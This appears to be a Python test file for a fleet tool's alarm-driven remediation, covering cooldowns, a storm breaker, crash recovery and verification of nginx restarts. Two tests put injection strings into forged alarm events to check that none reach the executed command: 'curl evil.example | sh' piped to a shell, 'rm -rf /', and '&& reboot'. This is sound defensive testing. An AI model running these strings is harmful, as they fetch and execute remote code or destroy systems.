"""Alarm remediation on the local twin: CloudWatch Alarm State Change events, in the envelope EventBridge delivers,
reach the real remediate handler; runbooks run through the real start path on the fleet simulator.

Once per (rule, node) per cooldown, at most N per rule per hour, only what the rule says, and every decision on a
node recorded for notify.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from fleetwave.constants import REMEDIATE_TIMEOUT_SECONDS
from fleetwave_local.twin import Twin, TwinOptions

from .rollouts import summaries_for

RULE: dict[str, Any] = {
    "name": "restart-nginx",
    "alarm_prefix": "web-nginx-down-",
    "document": "AWS-RunShellScript",
    "parameters": {"commands": ["systemctl restart nginx"]},
    "target": "dimension:InstanceId",
    "cooldown_minutes": 30,
    "max_per_hour": 5,
}


def twin_with(*rules: dict[str, Any], seed: int) -> Twin:
    return Twin(TwinOptions(seed=seed, remediation_rules=list(rules)))


def outcomes(twin: Twin, rule: str = "restart-nginx") -> list[str]:
    return [record["outcome"] for record in twin.reader.records.remediations(rule)]


def test_a_burst_of_duplicate_alarm_events_remediates_once():
    with twin_with(RULE, seed=41) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        event = twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node})
        # When EventBridge delivers one event three times, and the alarm flaps into ALARM three more times
        answers = [twin.invoke("remediate", event) for _ in range(3)]
        answers += [twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node}) for _ in range(3)]
        # Then one runbook ran: redeliveries are dropped silently, new events inside the cooldown are skipped
        assert [a["outcome"] for a in answers] == ["started", "duplicate", "duplicate", "skipped", "skipped", "skipped"]
        rollout = twin.run(answers[0]["rollout_id"])
        assert rollout.state.value == "SUCCEEDED" and rollout.trigger == "remediation"
        assert twin.api_calls["ssm:SendCommand"] == 1
        assert outcomes(twin) == ["started", "skipped", "skipped", "skipped"]
        started, skipped = twin.reader.records.remediations("restart-nginx")[:2]
        assert started["pk"] == "REMEDIATION#restart-nginx" and started["sk"].endswith(f"#{node}")
        assert started["type"] == "remediation" and started["rule"] == "restart-nginx"
        assert started["alarm_name"] == "web-nginx-down-1" and started["instance_id"] == node
        assert started["rollout_id"] == rollout.rollout_id and started["expires_at"] > 0
        assert skipped["reason"].startswith(f"cooldown: rule restart-nginx acted on {node}")
        assert "rollout_id" not in skipped
        # And the remediation is summarized like any rollout
        [summary] = summaries_for(twin, rollout.rollout_id)
        assert summary["spec"] == "remediate-restart-nginx" and summary["state"] == "SUCCEEDED"


def test_the_cooldown_is_honoured_and_then_expires():
    with twin_with(RULE, seed=42) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        first = twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node})
        twin.run(first["rollout_id"])
        start = twin.clock.now()
        # Ten minutes later: still cooling down
        twin.sim.advance_to(start + timedelta(minutes=10))
        assert twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node})["outcome"] == "skipped"
        # Past the 30 minutes (the expired lock item is still in the table: TTL deletes late), it runs again
        twin.sim.advance_to(start + timedelta(minutes=31))
        second = twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node})
        assert second["outcome"] == "started" and second["rollout_id"] != first["rollout_id"]
        assert twin.run(second["rollout_id"]).state.value == "SUCCEEDED"
        assert outcomes(twin) == ["started", "skipped", "started"]
        # The cooldown is per node: another node of the same rule is not held back by it
        [other] = twin.add_nodes(1, tags={"role": "web"})
        assert twin.alarm("web-nginx-down-2", dimensions={"InstanceId": other})["outcome"] == "started"


def test_the_storm_breaker_trips_then_resets_the_next_hour():
    with twin_with({**RULE, "max_per_hour": 2}, seed=43) as twin:
        nodes = sorted(twin.add_nodes(4, tags={"role": "web"}))
        # When four nodes alarm within the hour
        answers = [twin.alarm(f"web-nginx-down-{i}", dimensions={"InstanceId": n}) for i, n in enumerate(nodes)]
        # Then two are remediated, and fleetwave notifies instead of acting on the others
        assert [a["outcome"] for a in answers] == ["started", "started", "skipped", "skipped"]
        assert answers[2]["reason"] == "storm breaker: rule restart-nginx already started 2 remediation(s) this hour"
        assert twin.api_calls["ssm:SendCommand"] == 2
        assert outcomes(twin) == ["started", "started", "skipped", "skipped"]
        # And in the next hour, a node skipped by the breaker (no cooldown was started for it) is remediated
        twin.sim.advance_to(twin.clock.now() + timedelta(hours=1))
        assert twin.alarm("web-nginx-down-2", dimensions={"InstanceId": nodes[2]})["outcome"] == "started"


def test_a_forged_event_cannot_change_what_runs():
    with twin_with(RULE, seed=44) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        # Given an event with a matching alarm name carrying a document, parameters and shell text of its own
        event = twin.alarm_event(
            "web-nginx-down-$(curl evil.example | sh)",
            dimensions={"InstanceId": node},
            description="; rm -rf / #",
            reason="`reboot`",
        )
        event["document"] = "AWS-RunRemoteScript"
        event["parameters"] = {"commands": ["curl evil.example | sh"]}
        event["detail"]["parameters"] = {"commands": ["rm -rf /"]}
        event["detail"]["document"] = {"name": "AWS-RunRemoteScript", "version": "7"}
        event["detail"]["configuration"]["parameters"] = {"commands": ["reboot"]}
        answer = twin.invoke("remediate", event)
        twin.run(answer["rollout_id"])
        # Then the command is exactly the rule's, and no alarm text reached it (not even its Comment)
        [command] = twin.sim.commands()
        assert command.document_name == "AWS-RunShellScript"
        assert command.parameters == {"commands": ["systemctl restart nginx"]}
        assert command.comment == f"fleetwave:{answer['rollout_id']}:0:0"
        assert command.instance_ids == [node]


def test_events_naming_no_rule_or_no_node_are_ignored_without_acting():
    with twin_with(RULE, seed=45) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        ignored = [
            # an alarm no rule names
            twin.alarm("db-disk-full", dimensions={"InstanceId": node}),
            # a composite alarm: no metrics, so no InstanceId dimension
            twin.alarm("web-nginx-down-composite", composite=True),
            # a dimension that is not a managed node ID
            twin.alarm("web-nginx-down-1", dimensions={"InstanceId": f"{node} && reboot"}),
            # back to OK is not a reason to act
            twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node}, state="OK", previous_state="ALARM"),
        ]
        assert [a["outcome"] for a in ignored] == ["ignored"] * 4
        # An event that is not a CloudWatch alarm state change at all
        forged = {**twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node}), "source": "custom.app"}
        assert twin.invoke("remediate", forged) == {"outcome": "ignored", "reason": "malformed event"}
        assert twin.api_calls["ssm:SendCommand"] == 0 and outcomes(twin) == []
        # A well-formed ID of a node SSM does not manage is a decision: skipped, with the start's reason
        stranger = twin.alarm("web-nginx-down-1", dimensions={"InstanceId": "i-0aaaaaaaaaaaaaaaa"})
        assert stranger["outcome"] == "skipped" and "empty target set" in stranger["reason"]


def test_a_redelivered_event_resumes_a_remediation_whose_first_attempt_crashed():
    with twin_with(RULE, seed=48) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        event = twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node})
        locks = twin.reader.locks
        # Given the first delivery claimed the cooldown, then died before starting the runbook
        now = twin.clock.now()
        locks.claim_cooldown("restart-nginx", node, event_id=event["id"], now=now, until=now + timedelta(minutes=30))
        # While that attempt could still be running, a redelivery leaves it alone
        assert twin.invoke("remediate", event)["outcome"] == "duplicate"
        # Once the function's timeout has passed, the redelivery (Lambda's retry) carries the remediation out
        twin.sim.advance_to(now + timedelta(seconds=REMEDIATE_TIMEOUT_SECONDS))
        answer = twin.invoke("remediate", event)
        assert answer["outcome"] == "started"
        assert twin.run(answer["rollout_id"]).state.value == "SUCCEEDED"
        assert twin.invoke("remediate", event)["outcome"] == "duplicate"


def test_a_rule_can_select_alarms_and_find_the_node_by_alarm_tags():
    rule = {k: v for k, v in RULE.items() if k != "alarm_prefix"} | {
        "name": "restart-agent",
        "alarm_tags": {"fleetwave:runbook": "restart-agent"},
        "target": "tag:fleetwave:instance",
    }
    with twin_with(rule, seed=46) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        twin.put_alarm("agent-health", "ALARM", tags={"fleetwave:runbook": "restart-agent", "fleetwave:instance": node})
        # A composite alarm has no metric: its tag names the node
        answer = twin.alarm("agent-health", composite=True)
        assert answer["outcome"] == "started" and answer["instance_id"] == node
        assert twin.api_calls["cloudwatch:ListTagsForResource"] == 1
        assert twin.run(answer["rollout_id"]).state.value == "SUCCEEDED"


def test_a_remediation_whose_alarm_does_not_recover_is_reported_failed():
    with twin_with({**RULE, "verify_minutes": 10}, seed=47) as twin:
        healed, broken = sorted(twin.add_nodes(2, tags={"role": "web"}))
        for name, node in (("web-nginx-down-healed", healed), ("web-nginx-down-broken", broken)):
            twin.put_alarm(name, "ALARM", dimensions={"InstanceId": node})
        first = twin.alarm("web-nginx-down-healed", dimensions={"InstanceId": healed})
        second = twin.alarm("web-nginx-down-broken", dimensions={"InstanceId": broken})
        # Given the first alarm recovers after its runbook, the second does not
        twin.set_alarm_state("web-nginx-down-healed", "OK")
        # When the rollouts end and the verification timers fire
        twin.run(first["rollout_id"])
        twin.run(second["rollout_id"])
        # Then only the second remediation is reported failed, after its runbook succeeded
        records = twin.reader.records.remediations("restart-nginx")
        failed = [r for r in records if r["outcome"] == "verification_failed"]
        assert [r["instance_id"] for r in failed] == [broken]
        assert failed[0]["rollout_id"] == second["rollout_id"]
        assert failed[0]["reason"].startswith("alarm web-nginx-down-broken is ALARM 10 min after the runbook succeeded")
        assert twin.reader.rollouts.get(second["rollout_id"]).state.value == "SUCCEEDED"
        # Every verification timer ran and was deleted
        assert twin.plumbing("scheduler").list_schedules(GroupName="fleetwave")["Schedules"] == []
